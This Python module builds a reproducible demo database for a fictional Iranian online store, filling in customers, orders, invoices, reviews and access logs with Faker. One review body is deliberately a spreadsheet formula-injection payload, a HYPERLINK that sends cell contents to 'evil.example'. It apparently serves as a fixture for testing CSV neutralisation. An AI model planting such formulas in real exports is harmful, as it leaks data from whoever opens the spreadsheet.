"""The demo store: a realistic Iranian online store's customers, generated deterministically.

Everything comes from one ``random.Random(seed)`` (and Faker seeded from it), so a seed always
gives the same store. A few identifiers are stored in the "messy" forms real stores hold —
Persian digits, Arabic ي/ك, +98 and 0098 prefixes, upper-case e-mails, spaces and dashes — so
that identity matching's normalisation is exercised by the demo itself.
"""

from __future__ import annotations

import datetime as dt
import random
import re
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from faker import Faker

from workflow.datamap.connect import POSTGRESQL, SQLITE, StoreConnection, connect, dialect_of, sqlite_path

from .personas import (
    ARABIC_INDIC_DIGITS,
    PERSIAN_DIGITS,
    PERSONAS,
    TO_ARABIC_LETTERS,
    Persona,
    with_check_digit,
)
from .schema import columns_of, datamap_text, ddl
from .vocabulary import (
    IP_PREFIXES,
    MOBILE_PREFIXES,
    PATHS,
    PLACES,
    PRODUCTS,
    REVIEW_BODIES,
    STREETS,
    USER_AGENTS,
)

__all__ = ["HEAVY_CUSTOMER_ID", "PERSONAS", "SOURCE", "Persona", "SeedResult", "seed_store"]

SOURCE = "store"
# The store's history spans Jalali 1403 and 1404 (2024-03-20 .. 2026-03-20, UTC).
WINDOW_START = dt.datetime(2024, 3, 20, tzinfo=dt.UTC)
WINDOW_END = dt.datetime(2026, 3, 20, tzinfo=dt.UTC)
HEAVY_CUSTOMER_ID = 1


def _ts(moment: dt.datetime, dialect_name: str) -> Any:
    if dialect_name == "postgresql":
        return moment
    return moment.strftime("%Y-%m-%d %H:%M:%S")


class StoreGenerator:
    """Rows of every table, as iterators (the heavy customer's log is never held in memory)."""

    def __init__(self, *, customers: int, heavy_rows: int, seed: int, dialect_name: str) -> None:
        self.customers = max(customers, len(PERSONAS))
        self.heavy_rows = heavy_rows
        self.random = random.Random(seed)  # noqa: S311 (demo data: reproducible, not secret)
        self.seed = seed
        self.dialect_name = dialect_name
        self.fa = Faker("fa_IR")
        self.en = Faker("en_US")
        self.fa.seed_instance(seed)
        self.en.seed_instance(seed + 1)
        self.tables: dict[str, list[tuple[Any, ...]]] = {
            name: []
            for name in (
                "customers",
                "addresses",
                "orders",
                "order_recipients",
                "invoices",
                "reviews",
                "review_edits",
                "marketing_consents",
            )
        }
        self.access_counts: dict[int, int] = {}
        self._ids: dict[str, int] = {}

    # --- small generators -----------------------------------------------------------------

    def _next_id(self, table: str) -> int:
        self._ids[table] = self._ids.get(table, 0) + 1
        return self._ids[table]

    def moment(self, after: dt.datetime = WINDOW_START) -> dt.datetime:
        span = int((WINDOW_END - after).total_seconds())
        return after + dt.timedelta(seconds=self.random.randrange(max(span, 1)))

    def national_id(self) -> str:
        while True:
            first_nine = f"{self.random.randrange(1, 10**9):09d}"
            if len(set(first_nine)) > 1:
                return with_check_digit(first_nine)

    def mobile(self) -> str:
        return self.random.choice(MOBILE_PREFIXES) + f"{self.random.randrange(10**7):07d}"

    def landline(self, area: str) -> str:
        return area + str(self.random.randrange(2, 9)) + f"{self.random.randrange(10**7):07d}"

    def postal_code(self) -> str:
        digits = "13456789"
        return "".join(self.random.choice(digits) for _ in range(5)) + f"{self.random.randrange(10**5):05d}"

    def messy_digits(self, value: str) -> str:
        roll = self.random.random()
        if roll < 0.15:
            return value.translate(PERSIAN_DIGITS)
        if roll < 0.2:
            return value.translate(ARABIC_INDIC_DIGITS)
        return value

    def messy_mobile(self, local: str) -> str:
        roll = self.random.random()
        if roll < 0.15:
            return "+98" + local[1:]
        if roll < 0.25:
            return local.translate(PERSIAN_DIGITS)
        if roll < 0.3:
            return f"{local[:4]} {local[4:7]} {local[7:]}"
        return local

    def messy_landline(self, local: str) -> str:
        roll = self.random.random()
        if roll < 0.2:
            return f"{local[:3]}-{local[3:]}"
        if roll < 0.3:
            return "+98" + local[1:]
        return local

    def ip(self) -> str:
        if self.random.random() < 0.08:
            return "2a01:5ec0:{:x}:{:x}::{:x}".format(*(self.random.randrange(65536) for _ in range(3)))
        return (
            f"{self.random.choice(IP_PREFIXES)}.{self.random.randrange(256)}.{self.random.randrange(1, 255)}"
        )

    def cookie(self) -> str:
        return f"{self.random.getrandbits(128):032x}"

    def password_hash(self) -> str:
        alphabet = "./ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
        return "$2b$12$" + "".join(self.random.choice(alphabet) for _ in range(53))

    # --- tables -----------------------------------------------------------------------------

    def build(self) -> None:
        personas = {p.customer_id: p for p in PERSONAS}
        for customer_id in range(1, self.customers + 1):
            self._ids["customers"] = customer_id
            persona = personas.get(customer_id)
            place = self.random.choice(PLACES)
            registered = self.moment()
            if persona:
                first, last = persona.first_name, persona.last_name
                nid, mobile, email = persona.stored_national_id, persona.stored_mobile, persona.stored_email
                landline, username = persona.stored_landline or None, persona.username
            else:
                english = self.random.random() < 0.2
                faker = self.en if english else self.fa
                first, last = faker.first_name(), faker.last_name()
                if not english and self.random.random() < 0.15:
                    # Typed on an Arabic keyboard layout: ي and ك instead of ی and ک.
                    first, last = first.translate(TO_ARABIC_LETTERS), last.translate(TO_ARABIC_LETTERS)
                nid = self.messy_digits(self.national_id())
                mobile = self.messy_mobile(self.mobile())
                landline = (
                    self.messy_landline(self.landline(place[2])) if self.random.random() < 0.6 else None
                )
                username = f"user{customer_id:06d}"
                email = (
                    f"{username}@{self.random.choice(['gmail.com', 'yahoo.com', 'chmail.ir', 'example.ir'])}"
                )
                if self.random.random() < 0.15:
                    email = email.upper()
            birth = dt.date(1950, 1, 1) + dt.timedelta(days=self.random.randrange(365 * 55))
            self.tables["customers"].append(
                (
                    customer_id,
                    username,
                    first,
                    last,
                    nid,
                    birth if self.dialect_name != "sqlite" else birth.isoformat(),
                    mobile,
                    landline,
                    email,
                    self.password_hash(),
                    _ts(registered, self.dialect_name),
                )
            )
            address_ids = [
                self._address(customer_id, place, registered, landline)
                for _ in range(self.random.randint(1, 2))
            ]
            for _ in range(self.random.randint(0, 5) if customer_id != HEAVY_CUSTOMER_ID else 6):
                self._order(customer_id, first, last, nid, address_ids[0], registered)
            for _ in range(self.random.randint(0, 3) if customer_id != HEAVY_CUSTOMER_ID else 3):
                self._review(customer_id, registered)
            for channel in ("email", "sms"):
                self.tables["marketing_consents"].append(
                    (
                        self._next_id("marketing_consents"),
                        customer_id,
                        channel,
                        self.random.random() < 0.5,
                        _ts(self.moment(registered), self.dialect_name),
                    )
                )
            self.access_counts[customer_id] = (
                self.heavy_rows
                if customer_id == HEAVY_CUSTOMER_ID and self.heavy_rows
                else self.random.randint(5, 40)
            )

    def _address(
        self, customer_id: int, place: tuple[str, str, str], registered: dt.datetime, landline: str | None
    ) -> int:
        address_id = self._next_id("addresses")
        alley, number = self.random.randint(1, 40), self.random.randint(1, 200)
        street = f"{self.random.choice(STREETS)}، کوچه {alley}، پلاک {number}"
        self.tables["addresses"].append(
            (
                address_id,
                customer_id,
                self.random.choice(["خانه", "محل کار"]),
                place[0],
                place[1],
                street.translate(PERSIAN_DIGITS),
                self.postal_code(),
                landline,
                _ts(registered, self.dialect_name),
            )
        )
        return address_id

    def _order(
        self, customer_id: int, first: str, last: str, nid: str, address_id: int, registered: dt.datetime
    ) -> None:
        order_id = self._next_id("orders")
        placed = self.moment(registered)
        total = self.random.randrange(500_000, 150_000_000, 10_000)
        status = self.random.choice(["delivered", "delivered", "delivered", "shipped", "cancelled"])
        self.tables["orders"].append(
            (
                order_id,
                customer_id,
                f"SP-{order_id + 10_000_000:08d}",
                _ts(placed, self.dialect_name),
                status,
                total,
                address_id,
            )
        )
        # Some orders go to someone else: a gift, a relative (the policy's third-party recipient).
        if self.random.random() < 0.2 or (customer_id == HEAVY_CUSTOMER_ID and order_id % 2 == 0):
            place = self.random.choice(PLACES)
            self.tables["order_recipients"].append(
                (
                    self._next_id("order_recipients"),
                    order_id,
                    f"{self.fa.first_name()} {self.fa.last_name()}",
                    self.mobile(),
                    place[0],
                    place[1],
                    f"{self.random.choice(STREETS)}، پلاک {self.random.randint(1, 90)}",
                    self.postal_code(),
                )
            )
        if status != "cancelled":
            tax = total * 10 // 110
            self.tables["invoices"].append(
                (
                    self._next_id("invoices"),
                    order_id,
                    f"INV-{order_id + 50_000_000}",
                    _ts(placed + dt.timedelta(hours=1), self.dialect_name),
                    f"{first} {last}",
                    nid,
                    total,
                    tax,
                )
            )

    def _review(self, customer_id: int, registered: dt.datetime) -> None:
        review_id = self._next_id("reviews")
        created = self.moment(registered)
        body = self.random.choice(REVIEW_BODIES)
        if customer_id == HEAVY_CUSTOMER_ID and review_id == 1:
            body = '=HYPERLINK("http://evil.example/?x="&A1,"جزئیات")'  # a formula, to be neutralised in CSV
        edits = self.random.randint(0, 2) if customer_id != HEAVY_CUSTOMER_ID else 2
        self.tables["reviews"].append(
            (
                review_id,
                customer_id,
                self.random.choice(PRODUCTS),
                self.random.randint(1, 5),
                body,
                "published" if edits < 2 else "edited_by_support",
                _ts(created, self.dialect_name),
            )
        )
        previous = body + " !!!"
        for index in range(edits):
            editor, reason = ("customer", "") if index == 0 else ("support", "حذف عبارات خلاف قوانین سایت")
            self.tables["review_edits"].append(
                (
                    self._next_id("review_edits"),
                    review_id,
                    _ts(created + dt.timedelta(days=index + 1), self.dialect_name),
                    editor,
                    previous,
                    reason,
                )
            )

    def access_log(self) -> Iterator[tuple[Any, ...]]:
        """Generated lazily: the heavy customer's rows stream straight into the database."""
        row_id = 0
        span = int((WINDOW_END - WINDOW_START).total_seconds())
        for customer_id, count in self.access_counts.items():
            # Sorted instants, spread evenly with jitter, without holding the list.
            step = span / max(count, 1)
            for index in range(count):
                row_id += 1
                at = WINDOW_START + dt.timedelta(seconds=int(index * step + self.random.random() * step))
                path = self.random.choice(PATHS).format(n=self.random.randrange(1000, 99999))
                yield (
                    row_id,
                    customer_id,
                    _ts(at, self.dialect_name),
                    self.ip(),
                    self.random.choice(USER_AGENTS),
                    self.cookie(),
                    path,
                    self.random.choice((200, 200, 200, 302, 404)),
                )


@dataclass(frozen=True)
class SeedResult:
    database_url: str
    datamap_path: Path
    counts: dict[str, int]


def _load(conn: StoreConnection, table: str, rows: Iterable[Sequence[Any]]) -> int:
    columns = columns_of(table)
    q = conn.dialect.quote
    count = 0
    cursor = conn.cursor()
    if conn.dialect is POSTGRESQL:
        names = ", ".join(q(c) for c in columns)
        with cursor.copy(f"COPY {q(table)} ({names}) FROM STDIN") as copy:
            for row in rows:
                copy.write_row(row)
                count += 1
        return count
    names = ", ".join(q(c) for c in columns)
    placeholders = ", ".join([conn.dialect.placeholder] * len(columns))
    sql = f"INSERT INTO {q(table)} ({names}) VALUES ({placeholders})"  # noqa: S608 (names from schema.py)
    batch: list[Sequence[Any]] = []
    for row in rows:
        batch.append(row)
        if len(batch) >= 5000:
            cursor.executemany(sql, batch)
            count += len(batch)
            batch.clear()
    if batch:
        cursor.executemany(sql, batch)
        count += len(batch)
    return count


def seed_store(
    *,
    database_url: str,
    datamap_path: Path,
    customers: int,
    heavy_customer_rows: int = 0,
    seed: int = 1403,
    datamap_url: str | None = None,
) -> SeedResult:
    """(Re)build the store's tables with generated customers and write its data map.

    ``datamap_url`` is what the map says (``${STORE_DATABASE_URL}`` when the URL holds a password).
    """
    dialect = dialect_of(database_url)
    if dialect is SQLITE:
        Path(sqlite_path(database_url)).parent.mkdir(parents=True, exist_ok=True)
    generator = StoreGenerator(
        customers=customers, heavy_rows=heavy_customer_rows, seed=seed, dialect_name=dialect.name
    )
    generator.build()
    counts: dict[str, int] = {}
    with connect(database_url, source_name=SOURCE, readonly=False) as conn:
        cursor = conn.cursor()
        if dialect is SQLITE:
            conn.raw.execute("PRAGMA journal_mode=WAL")
        for statement in ddl(dialect):
            cursor.execute(statement)
        for table, rows in generator.tables.items():
            counts[table] = _load(conn, table, rows)
        counts["access_log"] = _load(conn, "access_log", generator.access_log())
        conn.raw.commit()
    datamap_path.parent.mkdir(parents=True, exist_ok=True)
    url_in_map = datamap_url if datamap_url is not None else database_url
    tmp = datamap_path.with_suffix(".yaml.tmp")
    tmp.write_text(datamap_text(source=SOURCE, database_url=url_in_map), encoding="utf-8")
    tmp.replace(datamap_path)
    return SeedResult(database_url=database_url, datamap_path=datamap_path, counts=counts)


def url_has_password(url: str) -> bool:
    return bool(re.match(r"^[a-z0-9+]+://[^:/@]*:[^@/]+@", url))
